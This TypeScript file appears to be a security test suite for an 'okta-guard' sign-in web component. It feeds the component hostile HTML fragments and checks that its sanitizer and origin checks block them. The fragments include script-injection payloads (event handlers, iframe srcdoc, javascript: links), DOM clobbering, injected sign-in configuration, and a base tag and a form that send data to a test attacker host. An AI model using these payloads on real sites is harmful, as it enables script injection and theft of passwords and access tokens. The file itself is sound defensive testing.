import type { Page } from 'playwright-core';
import type { Attack, Catch } from '../attack.js';
import { evilOf, hasRun, OWNER_BUTTON, rowsOf, tag, visit, write, type Kind } from '../author.js';
import type { AttackFixture } from '../fixture.js';
import { firstAnswer } from '../victim.js';

/* An author names a file of the uploads folder as src of a guard. */

const FRAGMENT = { without: 'the sanitizer', defence: 'the sanitizer' };

/** A fragment of the author is in the page. */
async function withFragment(
  fixture: AttackFixture,
  kind: Kind,
  guarded: boolean,
  fragment: string,
  look: (tab: Page) => Promise<Catch>,
): Promise<Catch> {
  const text = `<p id="arrived">Read this.</p>${fragment}`;
  const file = fixture.file('app', fixture.path('uploads/evil.html'), { type: 'text/html', text });
  const guard = tag('okta-guard', { id: 'fragment', src: new URL(file).pathname });
  const page = write(fixture, {
    kind,
    author: guard,
    weaknesses: guarded ? [] : ['no sanitizer', 'no look at forms'],
  });
  return visit(fixture, page, 'signed in', async (tab) => {
    await tab.locator('#fragment #arrived').waitFor();
    return look(tab);
  });
}

const CODE = `
  <script>globalThis.ran = true</script>
  <img src="data:," onerror="globalThis.ran = true">
  <svg><animate onbegin="globalThis.ran = true" attributeName="x" dur="1s"></animate></svg>
  <iframe srcdoc="<script>parent.ran = true</script>"></iframe>
  <details open ontoggle="globalThis.ran = true"></details>
  <a id="link" href="javascript:void (globalThis.ran = true)">More</a>`;

/** Clicks what can be clicked, and waits until images and frames have had their say. */
async function ranCode(tab: Page): Promise<Catch> {
  const link = tab.locator('#fragment #link');
  if (await link.count()) await link.click();
  await tab.evaluate(async () => {
    await Promise.all([...document.images].map((image) => image.decode().catch(() => {})));
  });
  await tab.waitForLoadState('load');
  return (await hasRun(tab)) ? { loot: 'a script in the page' } : { instead: 'the fragment is shown without it' };
}

const hides = (...names: string[]) => names.map((name) => `<img name="${name}" alt="">`).join('');

const codeRows = rowsOf({
  name: 'a fragment with scripts, handlers, frames and javascript: addresses',
  aim: 'a script in the page',
  ...FRAGMENT,
  run: (fixture, kind, guarded) => withFragment(fixture, kind, guarded, CODE, ranCode),
});

const clobberRows = rowsOf({
  name: 'a fragment with scripts, and names that hide what it reads',
  aim: 'a script in the page',
  kinds: ['sealed'],
  ...FRAGMENT,
  async run(fixture, kind, guarded) {
    const names = hides('implementation', 'getElementsByTagName', 'createNodeIterator', 'nodeType');
    const file = fixture.file('app', fixture.path('uploads/evil.html'), { type: 'text/html', text: CODE });
    const guard = tag('okta-guard', { id: 'fragment', src: new URL(file).pathname });
    const weaknesses = guarded ? [] : (['no sanitizer'] as const);
    const page = write(fixture, { kind, author: names + guard, weaknesses });
    return visit(fixture, page, 'signed in', (tab) =>
      firstAnswer<Catch>(tab, async () => {
        const state = await tab.locator('#fragment').getAttribute('state');
        if (await hasRun(tab)) return { loot: 'a script in the page' };
        return state === 'error' || state === 'allowed'
          ? { instead: `nothing runs; the guard is ${state}` }
          : undefined;
      }),
    );
  },
});

/** Whether the page has a configuration of the name "theirs". */
function hasTheirs(tab: Page, folder: string): Promise<boolean> {
  return tab.evaluate(async (folder) => {
    const { getClient } = (await import(`${folder}okta-elements.js`)) as { getClient(name: string): object };
    try {
      return Boolean(getClient('theirs'));
    } catch {
      return false;
    }
  }, folder);
}

const configurationRows = rowsOf({
  name: 'a fragment with okta-config, okta-signin and script data-okta-config',
  aim: 'a configuration in the page',
  ...FRAGMENT,
  async run(fixture, kind, guarded) {
    const evil = { ...evilOf(fixture), name: 'theirs', 'redirect-uri': '/elsewhere' };
    const text = `<p id="arrived">Read this.</p>${tag('okta-config', evil)}${tag('okta-signin', { config: 'theirs' })}
      <script type="application/json" data-okta-config>${JSON.stringify(evil)}</script>`;
    const file = fixture.file('app', fixture.path('uploads/evil.html'), { type: 'text/html', text });
    const guard = tag('okta-guard', { id: 'fragment', src: new URL(file).pathname });
    const weaknesses = guarded ? [] : (['no sanitizer', 'no look at forms'] as const);
    const page = write(fixture, { kind, author: guard, weaknesses });
    const folder = fixture.packageFiles(weaknesses);
    return visit(fixture, page, 'signed in', (tab) =>
      firstAnswer<Catch>(tab, async () => {
        // It seals a page with tags, whose guards then close.
        if (await hasTheirs(tab, folder)) return { loot: 'a configuration in the page' };
        if (!(await tab.locator('#fragment #arrived').isVisible())) return undefined;
        return (await tab.locator('#fragment :is(okta-config, okta-signin, script)').count())
          ? { loot: 'a configuration in the page' }
          : { instead: 'the fragment is shown without them' };
      }),
    );
  },
});

const baseRows = rowsOf({
  name: 'a fragment with base, meta and link',
  aim: 'the base of all addresses',
  kinds: ['sealed'],
  ...FRAGMENT,
  run(fixture, kind, guarded) {
    const evil = fixture.attacker(fixture.path('base/')).address;
    const fragment = `<base href="${evil}"><link rel="stylesheet" href="${evil}x.css">
      <meta http-equiv="content-security-policy" content="script-src 'none'">`;
    return withFragment(fixture, kind, guarded, fragment, async (tab) =>
      (await tab.evaluate(() => document.baseURI)) === evil
        ? { loot: 'the base of all addresses' }
        : { instead: 'the fragment is shown without them' },
    );
  },
});

const formRows = rowsOf({
  name: 'a fragment with a form that posts to another origin',
  aim: 'what is typed into it',
  kinds: ['sealed'],
  ...FRAGMENT,
  async run(fixture, kind, guarded) {
    const evil = fixture.attacker(fixture.path('form'));
    const fragment = `<form id="form" method="post" action="${evil.address}"><input name="password" aria-label="Password">
      <button>Sign in</button></form>`;
    return withFragment(fixture, kind, guarded, fragment, async (tab) => {
      const form = tab.locator('#fragment #form');
      const action = (await form.count()) ? await form.getAttribute('action') : null;
      if (action !== evil.address) return { instead: 'the form posts nowhere' };
      await form.getByLabel('Password').fill('typed');
      await form.getByRole('button').click();
      return firstAnswer<Catch>(tab, async () =>
        Promise.resolve(
          evil.received.some(({ body }) => body === 'password=typed') ? { loot: 'what is typed into it' } : undefined,
        ),
      );
    });
  },
});

const styleRows = rowsOf({
  name: 'a fragment with style elements and style attributes',
  aim: 'the styles of the whole page',
  kinds: ['sealed'],
  ...FRAGMENT,
  run(fixture, kind, guarded) {
    const fragment = `<style>#owner { opacity: 0.5 }</style>
      <div style="position: fixed; inset: 0" id="cover"></div>`;
    return withFragment(fixture, kind, guarded, fragment, async (tab) => {
      const isStyled = await tab.evaluate(() => {
        const cover = document.querySelector('#fragment #cover');
        const { opacity } = getComputedStyle(document.querySelector('#owner')!);
        return opacity === '0.5' || (cover !== null && getComputedStyle(cover).position === 'fixed');
      });
      return isStyled
        ? { loot: 'the styles of the whole page' }
        : { instead: 'the fragment has the styles of the page' };
    });
  },
});

const templateRows = rowsOf({
  name: 'script data-okta-config in a template that a guard stamps',
  aim: 'a configuration in the page',
  without: 'the check for stamped content',
  defence: 'stamped content configures nothing',
  async run(fixture, kind, guarded) {
    const evil = { ...evilOf(fixture), name: 'theirs', 'redirect-uri': '/elsewhere' };
    const author = `<okta-guard when="signed-out"><template><p id="arrived">Read this.</p>
      <script type="application/json" data-okta-config>${JSON.stringify(evil)}</script>
      ${tag('okta-signin', { id: 'theirs', config: 'theirs' })}</template></okta-guard>`;
    const weaknesses = guarded ? [] : (['stamped scripts configure'] as const);
    const page = write(fixture, { kind, author, weaknesses });
    const folder = fixture.packageFiles(weaknesses);
    return visit(fixture, page, 'new', (tab) =>
      firstAnswer<Catch>(tab, async () => {
        // The JSON is read while the template is stamped.
        const isStamped = await tab.locator('#arrived').isVisible();
        if (await hasTheirs(tab, folder)) return { loot: 'a configuration in the page' };
        return isStamped ? { instead: 'the page has no such configuration' } : undefined;
      }),
    );
  },
});

const guardBaseRows = rowsOf({
  name: 'base, before a guard of the owner with a relative src',
  aim: 'the access token',
  without: 'the check of the origin of a request',
  defence: 'origin_not_allowed',
  run(fixture, kind, guarded) {
    const evil = fixture.attacker(fixture.path('base/'));
    const page = write(fixture, {
      kind,
      author: `<base href="${evil.address}">`,
      place: 'first',
      tags: `${OWNER_BUTTON}${tag('okta-guard', { id: 'fragment', src: 'part.html' })}`,
      weaknesses: guarded ? [] : ['no look at the origin of a request'],
    });
    return visit(fixture, page, 'signed in', (tab) =>
      firstAnswer<Catch>(tab, async () => {
        const state = await tab.locator('#fragment').getAttribute('state');
        if (evil.received.some(({ authorization }) => authorization)) return { loot: 'the access token' };
        return state === 'error' ? { instead: 'the guard is in error; nothing is sent' } : undefined;
      }),
    );
  },
});

export const authorFragmentsRows: readonly Attack[] = [
  ...codeRows,
  ...clobberRows,
  ...configurationRows,
  ...baseRows,
  ...formRows,
  ...styleRows,
  ...templateRows,
  ...guardBaseRows,
];
